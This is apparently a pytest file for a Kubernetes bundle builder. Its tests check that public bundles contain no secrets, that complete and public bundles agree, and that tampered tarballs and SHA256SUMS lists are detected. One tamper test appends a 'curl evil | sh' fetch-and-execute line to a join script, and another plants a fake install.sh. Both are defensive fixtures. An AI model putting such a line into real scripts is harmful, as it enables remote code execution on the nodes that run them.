"""Bundles without secrets, and comparing complete bundles with them."""

import hashlib
import io
import re
import shutil
import tarfile
from pathlib import Path

import pytest
from support.media import PEM, PUBLIC, faults_of, files_of, run
from support.projects import open_plan
from support.small_builds import SmallSite, make_site, read_manifest, unpack

from bundler.bundle.verify import compare, verify
from bundler.errors import OutputError
from bundler.overlays.templating import make_unknown
from bundler.project import load
from bundler.render.bundle_manifest import (
    parse_manifest,
)
from bundler.render.state_values import STATE_NAMES, make_state_values


@pytest.mark.slow
def test_public_bundles_hold_no_secret_and_need_no_state(site: SmallSite) -> None:
    first = (site.directory / "public/SHA256SUMS").read_bytes()
    site.change("etcd")
    shutil.rmtree(site.directory / "small.state")
    shutil.rmtree(site.directory / "mirror")
    fresh = make_site(site.directory.parent / "elsewhere")
    assert (fresh.build("public", PUBLIC) / "SHA256SUMS").read_bytes() == first
    assert not (fresh.directory / "small.state").exists()
    for tarball in (fresh.directory / "public").glob("*.tar.gz"):
        bundle = unpack(tarball, fresh.directory / "x")
        texts = [path.read_bytes() for path in bundle.rglob("*") if path.is_file()]
        assert not [text for text in texts if re.search(PEM, text)]
        assert (bundle / "rootfs/etc/systemd/system/kubelet.service").is_file()
        executed = {"install.sh", "uninstall.sh", "verify.sh", "node.env"}
        assert executed <= {path.name for path in bundle.iterdir()}
        assert not (bundle / "state.env").exists()


def test_complete_and_public_bundles_have_the_same_public_files(built: SmallSite) -> None:
    done = run("verify", built.directory / "dist", "--public", built.directory / "public")
    assert done.returncode == 0, done.stderr
    assert (
        len(
            re.findall(
                r"^same  small-\w+\.tar\.gz  \d+ files, \d+ left out$", done.stdout, re.MULTILINE
            )
        )
        == 3
    )
    lines = read_manifest(built.directory / "public/small-two.public.tar.gz")
    complete = read_manifest(built.directory / "dist/small-two.tar.gz")
    assert set(files_of(lines)) < set(complete)
    left_out = {line.split()[2] for line in lines if line.startswith("# from-state")}
    more = set(complete) - set(lines)
    assert {line.split()[3] for line in more} == left_out
    assert {line.split()[1] for line in more} <= {"0600", "0644"}
    assert not [path for path in left_out if "/systemd/" in path or path.endswith(".sh")]
    assert "rootfs/etc/kubernetes/bootstrap.kubeconfig" in left_out
    assert "rootfs/etc/cni/net.d/10-bridge.conflist" in left_out  # a pod subnet: by the state


def compare_builds(complete: Path, public: Path) -> list[str]:
    """What `verify WHOLE --public PUBLIC` finds by comparing."""
    verdicts = compare(complete, tuple(verify(complete)), tuple(verify(public)))
    return [fault for verdict in verdicts for fault in verdict.faults]


def sign_off(directory: Path) -> None:
    """Write SHA256SUMS again, as after a change of files."""
    paths = sorted(path for path in directory.iterdir() if path.name != "SHA256SUMS")
    lines = (f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.name}\n" for path in paths)
    (directory / "SHA256SUMS").write_text("".join(lines))


def test_a_file_added_to_complete_bundles_is_found(site: SmallSite) -> None:
    assert compare_builds(site.directory / "changed-full", site.directory / "public") == [
        f"small-one.tar.gz: rootfs/opt/k8s/bin/{name}: differs from the one in the bundle without secrets"
        for name in ("etcd", "etcdctl", "etcdutl")
    ]
    done = run("verify", site.directory / "changed-full", "--public", site.directory / "public")
    assert done.returncode == 6


@pytest.mark.slow
def test_every_file_of_a_directory_is_compared(site: SmallSite) -> None:
    complete, public = site.directory / "volumes", site.directory / "public"
    assert compare_builds(complete, public) == []
    with (complete / "join.sh").open("a") as script:
        script.write("curl evil | sh\n")
    shutil.copy(site.directory / "dist/small-one.tar.gz", complete / "small-four.tar.gz")
    (complete / "extra.sh").write_text("evil")
    sign_off(complete)
    assert sorted(compare_builds(complete, public)) == [
        f"{name}: the second build does not have it"
        for name in ("extra.sh", "join.sh", "small-four.tar.gz")
    ]
    done = run("verify", complete, "--public", public)
    assert "RUNBOOK.md: cannot be compared" in done.stderr


def test_bundles_are_not_compared_with_themselves(built: SmallSite) -> None:
    dist = built.directory / "dist"
    assert compare_builds(dist, dist) == [
        f"small-{node}.tar.gz: the second build does not have it"
        for node in ("one", "three", "two")
    ]
    assert compare(dist, (), tuple(verify(built.directory / "public")))
    (missing, *_) = compare(dist, (), tuple(verify(built.directory / "public")))
    assert missing.faults == ("small-one.tar.gz: this bundle is missing, or has faults",)


def test_a_second_directory_in_a_bundle_does_not_hide_the_first(site: SmallSite) -> None:
    """tar unpacks both; whoever drops folders' names would see the honest file only."""
    path = site.directory / "dist/small-one.tar.gz"
    with tarfile.open(path) as old:
        members = [(m, old.extractfile(m)) for m in old.getmembers()]
        with tarfile.open(path.with_name("new.tar.gz"), "w:gz") as new:
            for member, content in members:
                if member.name == "small-one/install.sh":
                    evil = tarfile.TarInfo(member.name)
                    evil.size = 4
                    new.addfile(evil, io.BytesIO(b"evil"))
                    member.name = "x/install.sh"
                new.addfile(member, content)
    path.with_name("new.tar.gz").replace(path)
    sign_off(path.parent)
    done = run("verify", path.parent, "--public", site.directory / "public")
    assert done.returncode == 6
    assert "'x/install.sh' is not in the folder 'small-one'" in done.stderr


@pytest.mark.parametrize("name", ["join.sh", "extra.deb", "small-zzz.tar", "folder/"])
def test_a_file_that_is_not_in_sha256sums_is_a_fault(site: SmallSite, name: str) -> None:
    unknown = site.directory / "dist" / name
    if name.endswith("/"):
        unknown.mkdir()
    else:
        unknown.write_text("x")
    assert faults_of(site.directory / "dist") == [f"{unknown.name}: not in SHA256SUMS"]


@pytest.mark.parametrize("text", ["", "garbage\n", f"{64 * 'a'}  ../x\n", f"{64 * 'a'} x\n"])
def test_a_file_that_is_not_a_list_of_digests_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "SHA256SUMS").write_text(text)
    with pytest.raises(OutputError, match="`bundler build` did not write this list"):
        faults_of(tmp_path)


def test_an_added_or_missing_file_is_found(tmp_path: Path) -> None:
    from bundler.bundle.verify import Verdict

    x, y, secret, evil = (
        f"{'ab' * 32} {mode} 1 {name}\n"
        for mode, name in (("0644", "x"), ("0644", "y"), ("0644", "secret"), ("0755", "evil"))
    )
    public = parse_manifest(f"# from-state secret\n{x}{y}".encode(), "public")
    complete = parse_manifest(f"{x}{secret}{evil}".encode(), "complete")
    (verdict,) = compare(
        tmp_path,
        [Verdict(name="a.tar.gz", manifest=complete)],
        [Verdict(name="a.public.tar.gz", manifest=public)],
    )
    assert verdict.faults == (
        "a.tar.gz: y: only in the bundle without secrets",
        "a.tar.gz: evil: is not a secret, but is missing in the bundle without secrets",
    )


def test_public_only_and_since_exclude_each_other(site: SmallSite) -> None:
    done = run("build", *site.arguments, "--public-only", "--since", site.directory / "dist")
    assert (done.returncode, "exclude each other" in done.stderr) == (2, True)


def test_no_name_from_the_state_is_needed_without_it(
    site: SmallSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    with open_plan(load(site.inputs).cluster, site.inputs) as (plan, secrets):
        assert set(make_state_values(plan, plan.nodes[0], secrets)) == set(STATE_NAMES)
    with pytest.raises(Exception, match="tokens is in the state directory"):
        str(make_unknown("tokens"))
